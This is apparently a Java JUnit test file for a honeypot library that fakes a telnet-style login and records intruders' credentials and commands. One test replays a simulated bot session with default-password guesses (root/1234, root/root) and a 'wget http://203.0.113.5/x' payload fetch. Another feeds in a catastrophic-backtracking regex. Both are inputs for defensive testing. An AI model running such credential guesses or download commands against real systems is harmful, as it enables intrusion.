// SPDX-License-Identifier: Apache-2.0
package io.honeymesh.trap.text;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.honeymesh.api.Captured;
import io.honeymesh.api.Conversation;
import io.honeymesh.api.Conversation.Ending;
import io.honeymesh.api.Evidence;
import io.honeymesh.traps.TrapHarness;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

@Timeout(30)
class TextTrapTest {

    private static TrapHarness open(String file) throws Exception {
        return TrapHarness.open(new TextTrap(Parser.parse(file)));
    }

    private static Captured captured(String text) {
        return Captured.of(text);
    }

    @Test
    void theExampleOfTheReadmeWorks() throws Exception {
        String readme = Files.readString(Path.of("README.md"));
        String example = readme.substring(readme.indexOf("```trap\n") + 8);
        String host = TrapHarness.persona(0).hostName();
        try (TrapHarness trap = open(example.substring(0, example.indexOf("```")))) {
            assertEquals(
                    "\r\n" + host + " login: Password: \r\nLogin incorrect\r\n" + host + " login: Password: "
                            + "\r\n# Linux " + host + " 4.14.90 armv7l\r\n# sh: wget: not found\r\n# ",
                    trap.talk(
                            "root\r\n1234\r\nroot\r\nroot\r\nuname -a\r\nwget http://203.0.113.5/x\r\nexit\r\nmore\r\n"));
            Conversation seen = trap.conversation();
            assertEquals(
                    List.of(
                            new Evidence.Credential("password", captured("root"), captured("1234")),
                            new Evidence.Credential("password", captured("root"), captured("root")),
                            new Evidence.Command(captured("uname -a")),
                            new Evidence.Command(captured("wget http://203.0.113.5/x")),
                            new Evidence.Command(captured("exit"))),
                    seen.evidence());
            assertEquals(Ending.TRAP, seen.ending());
        }
    }

    @Test
    void theFirstRuleThatFitsTheStateIsTaken() throws Exception {
        try (TrapHarness trap = open("""
                trap turns
                on /^a/ answer "1" go two
                in any on /^b/ answer "any"
                in two on /^a/ answer "2" go start
                in two otherwise answer "?"
                """)) {
            assertEquals("12anyany1?", trap.talk("a\na\nb\nb\na\nc\n"));
        }
    }

    @Test
    void whatIsUnansweredIsStillRecorded() throws Exception {
        try (TrapHarness trap = open("trap quiet")) {
            assertEquals("", trap.talk("hello\nthere\n"));
            assertEquals("hello\nthere\n", trap.conversation().payload().latin1());
        }
    }

    @Test
    void everyActionIsKeptAsWhatItIs() throws Exception {
        try (TrapHarness trap = open("""
                trap all
                on /^(\\w+) (.*)$/ request $0 detail agent "<$2>" set who $1 answer "$who: $$5 \\x41\\t$host" close
                """)) {
            String host = TrapHarness.persona(0).hostName();
            assertEquals("GET: $5 A\t" + host, trap.talk("GET /x\n"));
            assertEquals(
                    List.of(new Evidence.Request(captured("GET /x")), new Evidence.Detail("agent", captured("</x>"))),
                    trap.conversation().evidence());
        }
    }

    @Test
    void anAnswerCanNotBeMadeToGrow() throws Exception {
        try (TrapHarness trap = open("trap echo\nline 8192\non /^(.*)$/ set all \"$1$1$1$1\" answer \"$all$all\"\n")) {
            assertEquals(512, trap.talk("x".repeat(8000) + "\n").length());
        }
    }

    @Test
    void aLineThatIsTooLongIsAViolation() throws Exception {
        try (TrapHarness trap = open("trap short\nline 4\notherwise answer \"$0.\"\n")) {
            assertEquals("1234.", trap.talk("1234\n12345\n"));
            assertEquals(Ending.VIOLATION, trap.conversation().ending());
        }
    }

    @Test
    void S12_noPatternTakesMoreThanLinearTime() throws Exception {
        long start = System.nanoTime();
        try (TrapHarness trap =
                open("trap evil\nline 8192\non /(a*)*(a*)*(a*)*b/ answer \"no\"\notherwise answer \"yes\"\n")) {
            assertEquals("yes", trap.talk("a".repeat(8000) + "\n"));
        }
        // A backtracking engine would need longer than the universe is old.
        assertTrue(System.nanoTime() - start < Duration.ofSeconds(20).toNanos());
    }

    @Test
    void aSharedPortFindsItByItsFirstBytes() throws Exception {
        TextTrap trap = new TextTrap(Parser.parse("trap x\nrecognise /^HELLO\\xff/i\n"));
        assertTrue(trap.canHandle("hello\u00ff there".getBytes(StandardCharsets.ISO_8859_1)));
        assertFalse(trap.canHandle("HELO".getBytes(StandardCharsets.ISO_8859_1)));
        assertFalse(new TextTrap(Parser.parse("trap x")).canHandle(new byte[] {1}));
    }
}
